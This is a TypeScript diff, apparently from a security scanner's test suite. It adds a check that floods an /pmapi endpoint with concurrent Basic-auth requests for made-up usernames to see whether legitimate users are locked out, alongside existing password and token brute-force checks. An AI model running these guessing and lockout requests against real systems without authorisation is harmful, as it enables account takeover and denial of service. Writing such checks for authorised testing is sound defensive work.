@@ -20,12 +20,27 @@ async function guess(target: Target, authorization: (i: number) => string): Prom
   return open(`${GUESSES} guesses were looked at`);
 }
 
-/** Trying one password after the other, and one token. */
+/** Passwords for names that are made up, more at once than can be checked: others must still be checked. */
+async function crowdOut(target: Target): Promise<Verdict> {
+  const head = `GET /pmapi/metric?name=pmcd.version HTTP/1.1\r\nHost: ${target.host}\r\nConnection: close\r\n`;
+  const received = await Promise.all(
+    Array.from({ length: GUESSES }, (_, i) => {
+      const credentials = Buffer.from(`nobody${i}:guess`).toString('base64');
+      return target.send(`${head}Authorization: Basic ${credentials}\r\n\r\n`);
+    }),
+  );
+  const full = received.findIndex(({ text }) => text.includes('too many passwords'));
+  if (received.some(({ statuses }) => statuses[0] === 200)) return skipped('there are no users');
+  return full === -1 ? refused(`${GUESSES} names`) : open(`no room for more after ${full} names`);
+}
+
+/** Trying one password after the other, and one token; and keeping others from logging in. */
 export const GUESSING: readonly Attack[] = [
   {
     area: AREA,
     name: 'passwords of a user',
     run: (target) => guess(target, (i) => `Basic ${Buffer.from(`alice:guess ${i}`).toString('base64')}`),
   },
+  { area: AREA, name: 'keeping others out by names that are made up', run: crowdOut },
   { area: AREA, name: 'tokens', run: (target) => guess(target, (i) => `Bearer guess-${i}`) },
 ];
